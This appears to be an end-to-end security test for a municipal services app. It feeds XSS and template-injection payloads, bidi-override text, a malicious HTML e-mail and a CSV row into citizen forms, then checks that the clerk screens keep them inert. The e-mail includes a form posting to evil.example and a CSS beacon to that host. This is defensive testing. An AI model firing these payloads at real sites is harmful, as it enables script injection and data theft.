# Copyright 2026 LGO contributors
# License AGPL-3.0 or later (https://www.gnu.org/licenses/agpl).
"""Citizens write hostile words into every field; the clerk opens every screen that shows them.

No script may run, and the words stand there as words. Needs a server with ``lgo_demo``.
"""

import base64
import csv
import io
import time
from email.message import EmailMessage

from .base import BASE_URL, WIDE, Backend, E2ECase, artifacts
from .test_journey import photo

CLERK = ("clerk", "clerk-lgo")
IMG = "<img src=x onerror=alert(1)>"
SVG = '"><svg onload=alert(2)>'
LINK = "javascript:alert(3)"
BRACES = "{{7*7}}${7*7}#{7*7}<t t-out='7*7'/>"
BIDI = "\u202egnp.exe\u2066\u200f"
EMOJI = "🧨👩‍👩‍👧"
PILED = "ก" + "่" * 40 + "ู้" * 20
ALL = f"{IMG} {SVG} {LINK} {BRACES} {BIDI} {EMOJI} {PILED}"
#: Words of ``ALL`` as a screen shows them.
SHOWN = ("<img src=x onerror=alert(1)>", "<svg onload=alert(2)>", "{{7*7}}")
#: Elements that only a hostile text can have brought.
BROUGHT = (
    "img[src='x'], [onload*='alert'], [onerror*='alert'], a[href^='javascript:alert'], "
    "iframe[srcdoc*='alert']"
)


class TestHostile(E2ECase):
    viewport = WIDE

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.backend = Backend().login()
        cls.clerk = Backend().login(*CLERK)
        cls.stamp = str(time.time_ns())[-7:]

    def setUp(self):
        super().setUp()
        self.dialogs = []
        self.watch()

    def watch(self):
        """Notice each box that a script opens, and go on."""

        def on_dialog(dialog):
            self.dialogs.append(f"{dialog.message} on {self.page.url}")
            dialog.dismiss()

        self.page.on("dialog", on_dialog)

    def new_person(self, viewport):
        super().new_person(viewport)
        self.watch()

    def harmless(self, name, shown=SHOWN, page=None):
        """Nothing ran, nothing was brought in, and the words can be read."""
        page = page or self.page
        page.wait_for_timeout(500)
        self.assertEqual(self.dialogs, [], name)
        brought = page.locator(BROUGHT).evaluate_all("found => found.map(e => e.outerHTML)")
        self.assertEqual(brought, [], name)
        if shown:
            text = page.evaluate(
                """() => document.body.innerText + [...document.querySelectorAll(
                    "input, textarea")].map((field) => field.value).join("\\n")"""
            )
            for words in shown:
                self.assertIn(words, text, name)
            self.assertNotIn("\u202e", text, name)
        page.screenshot(path=str(artifacts() / f"hostile-{name}.png"))
        self.check_clean()

    def office(self, path, selector):
        """Open a screen of the office as the clerk."""
        self.page.goto(BASE_URL + path)
        self.page.wait_for_selector(selector)

    def find(self, model, words, field="description"):
        found = self.backend.call(
            model, "search_read", [(field, "ilike", words)], ["name"], limit=1, order="id desc"
        )
        self.assertTrue(found, f"{model}: nothing was filed")
        return found[0]

    def file_complaint(self):
        """Send the form; where somebody reported the same nearby, the page asks first, in place."""
        self.page.click(".lgo_request_form button.btn-primary[type=submit]:not([name])")
        asked = self.page.locator("[name=file_anyway]")
        asked.or_(self.page.locator(".lgo_thanks")).first.wait_for()
        if asked.count():
            self.submit("[name=file_anyway]")

    # ------------------------------------------------------------ a complaint, on map and board
    def test_complaint(self):
        mark = f"CMP{self.stamp}"
        self.open("/complaints")
        self.submit(".lgo_complaint_types a[href$='type=drain']")
        self.page.fill("#applicant_name", f"{IMG} {SVG} {BRACES}")
        self.page.fill("#applicant_phone", "0812345678")
        self.page.fill("#description", f"{mark} {ALL}")
        self.page.fill("#location_text", f"{IMG} {SVG}")
        for name in ("community", "village_number"):
            if self.page.locator(f"#{name}").count():
                self.page.fill(f"#{name}", "<b>x</b>"[:10])
        self.page.click(".lgo_map_center")
        self.page.check("#privacy_shown")
        self.file_complaint()
        self.harmless("complaint-thanks", shown=())
        case = self.find("lgo.oss.complaint", mark)
        self.open("/complaints/map")
        self.page.wait_for_selector(".lgo_public_map .leaflet-marker-icon")
        self.harmless("public-map", shown=())

        self.new_person(WIDE)
        self.login_to_backend(CLERK, f"/odoo/lgo-complaints/{case['id']}")
        self.page.wait_for_selector(".o_form_view .o_statusbar_status")
        self.harmless("complaint-form")
        self.office("/odoo/lgo-complaints", ".o_list_renderer, .o_kanban_renderer")
        for button in self.page.locator(".o_cp_switch_buttons button").all():
            button.click()
            self.page.wait_for_timeout(800)
            self.harmless("complaint-views", shown=())
        self.office("/odoo/lgo-map", ".lgo_map_canvas .leaflet-marker-icon")
        self.page.click(".btn-group button >> nth=1")
        self.page.wait_for_timeout(500)
        marker = self.page.locator(".leaflet-marker-icon, path.leaflet-interactive").first
        marker.dispatch_event("click")
        self.page.wait_for_timeout(800)
        self.harmless("map", shown=())

    # ------------------------------------------------------------ questions and lists of a service
    def test_answers_and_lists(self):
        code = f"H{self.stamp}"
        service = self.backend.call(
            "lgo.service",
            "create",
            {
                "code": code,
                "name": "บริการทดสอบคำร้าย",
                "kind": "request",
                "description": "ทดสอบ",
                "criteria": "ทดสอบ",
                "complaint_channels": "ทดสอบ",
                "unit_id": self.backend.ref("lgo_demo.unit_clerk_office"),
                "law_id": self.backend.ref("lgo_base.law_internal"),
                "time_limit": 5,
                "time_unit": "day",
                "no_fee": True,
                "guest_allowed": True,
                "step_ids": [(0, 0, {"name": "ทำ", "duration": 5})],
                "question_definition": [
                    {"name": "words", "type": "char", "string": "ถ้อยคำ"},
                    {"name": "more", "type": "text", "string": "เพิ่มเติม"},
                    {
                        "name": "people",
                        "type": "separator",
                        "string": "รายชื่อ",
                        "group": {"min": 0, "max": 3, "questions": [
                            {"name": "who", "type": "char", "string": "ชื่อ"},
                        ]},
                    },
                ],
            },
        )  # fmt: skip
        self.backend.call("lgo.service", "action_publish", [service])
        case = self.clerk.call(
            "lgo.oss.request",
            "create",
            {
                "service_id": service,
                "applicant_name": f"{IMG} {BRACES}",
                "applicant_phone": "0812345678",
                "description": f"{IMG} {SVG} {LINK} {BRACES} {EMOJI} {PILED}",
                "channel": "counter",
                "answers": {
                    "words": f"{IMG} {SVG} {BRACES}",
                    "more": f"{IMG} {SVG} {LINK} {BRACES}",
                    "people": [{"who": f"{IMG} {SVG}"}, {"who": f"{LINK} {BRACES}"}],
                },
            },
        )
        self.clerk.call(
            "lgo.oss.request", "action_transition", [case], context={"transition": "submit"}
        )
        self.login_to_backend(CLERK, f"/odoo/lgo-requests/{case}")
        self.page.wait_for_selector(".o_form_view .o_statusbar_status")
        self.harmless("answers-form")
        for tab in self.page.locator(".o_notebook_headers a").all():
            tab.click()
            self.harmless("answers-tab", shown=())

    # ------------------------------------------------------------ e-mail and Traffy Fondue
    def test_mail(self):
        mark = f"MAIL{self.stamp}"
        domain = self.backend.call(
            "mail.alias.domain", "create", {"name": f"d{self.stamp}.example.com"}
        )
        alias = self.backend.ref("lgo_oss.mail_alias_request")
        [company] = self.backend.call(
            "res.company", "search_read", [], ["lgo_general_service_id", "alias_domain_id"], limit=1
        )
        before = self.backend.call("mail.alias", "read", [alias], ["alias_domain_id"])[0]
        for model, record, field, row in (
            ("mail.alias", alias, "alias_domain_id", before),
            ("res.company", company["id"], "alias_domain_id", company),
        ):
            old = row[field] and row[field][0]
            self.addCleanup(self.backend.call, model, "write", [record], {field: old})
            self.backend.call(model, "write", [record], {field: domain})
        self.assertTrue(company["lgo_general_service_id"], "the demo takes mails")
        message = EmailMessage()
        message["From"] = '"<img src=x onerror=alert(6)>" <evil@example.net>'
        [row] = self.backend.call("mail.alias", "read", [alias], ["alias_full_name"])
        message["To"] = row["alias_full_name"]
        message["Subject"] = f"{mark} {IMG} {SVG} {BRACES}"
        message["Message-ID"] = f"<{mark}@example.net>"
        message.set_content(ALL)
        message.add_alternative(
            f"<p>{mark}{IMG}<svg onload=alert(7)></svg><script>alert(8)</script>"
            f"<a href='{LINK}'>ข</a><iframe srcdoc='<script>alert(9)</script>'></iframe>"
            "<form action='https://evil.example'><input name=p></form>"
            "<style>*{background:url(https://evil.example/x)}</style>"
            "<div style='position:fixed;inset:0;z-index:9999'>ปลอม</div></p>",
            subtype="html",
        )
        message.add_attachment(
            photo("x")["buffer"], maintype="image", subtype="jpeg",
            filename='"><img src=x onerror=alert(10)>.jpg',
        )  # fmt: skip
        self.backend.call("mail.thread", "message_process", False, message.as_string())
        case = self.find("lgo.oss.request", mark)
        self.login_to_backend(CLERK, f"/odoo/lgo-requests/{case['id']}")
        self.page.wait_for_selector(".o-mail-Message")
        self.harmless("mail", shown=("<img src=x onerror=alert(1)>",))
        self.assertEqual(self.page.locator(".o-mail-Message-body form").count(), 0)
        styles = self.page.locator(".o-mail-Message-body style").all_inner_texts()
        self.assertNotIn("evil.example", str(styles))

    def test_traffy(self):
        mark = f"TF{self.stamp}"
        kinds = self.backend.call(
            "lgo.oss.complaint.type", "search", [("restricted", "=", False)], limit=1
        )
        source = self.backend.call(
            "lgo.traffy.source",
            "create",
            {"name": IMG, "organisation": mark, "type_id": kinds[0]},
        )
        stream = io.StringIO()
        rows = csv.writer(stream)
        rows.writerow(
            [
                "ticket_id",
                "type",
                "organization",
                "comment",
                "coords",
                "photo",
                "photo_after",
                "address",
                "state",
                "timestamp",
                "last_activity",
            ]
        )
        rows.writerow(
            [f"2026-{self.stamp}", "{" + IMG + "}", "{" + mark + "}", f"{mark} {ALL}",
             "98.94,18.73", LINK, "data:text/html,<script>alert(11)</script>", f"{IMG}{SVG}",
             "รอรับเรื่อง", "2026-11-20 10:00:00+00", "2026-11-20 10:00:00+00"]
        )  # fmt: skip
        wizard = self.backend.call(
            "lgo.traffy.csv",
            "create",
            {
                "source_id": source,
                "dry_run": False,
                "file": base64.b64encode(stream.getvalue().encode()).decode(),
            },
        )
        self.backend.call("lgo.traffy.csv", "action_import", [wizard])
        case = self.find("lgo.oss.complaint", mark)
        self.login_to_backend(CLERK, f"/odoo/lgo-complaints/{case['id']}")
        self.page.wait_for_selector(".o_form_view .o_statusbar_status")
        self.harmless("traffy")

    # ------------------------------------------------------------ appointment
    def test_appointment(self):
        self.open("/queue/book")
        self.page.locator(".lgo_tile").first.click()
        self.page.wait_for_selector(".lgo_queue_slots input")
        self.page.locator(".lgo_queue_days a").last.click()
        self.page.wait_for_load_state("networkidle")
        self.page.locator(".lgo_queue_slots input").first.check()
        name = f"{IMG} {SVG} {BRACES} {BIDI}"
        self.page.fill("#name", name[:120])
        self.page.fill("#phone", f"08{time.time_ns() % 10**8:08d}")
        self.page.check("#privacy_shown")
        self.page.click("main button[type=submit]")
        self.page.wait_for_selector(".lgo_queue_code")
        self.harmless("appointment", shown=())
        [booking] = self.backend.call(
            "resource.booking", "search_read", [], ["name"], limit=1, order="id desc"
        )
        self.assertNotIn("\u202e", str(booking))
        self.login_to_backend(("admin", "admin-lgo"), "/odoo")
        self.office(f"/odoo/resource.booking/{booking['id']}", ".o_form_view")
        self.harmless("booking-form", shown=())
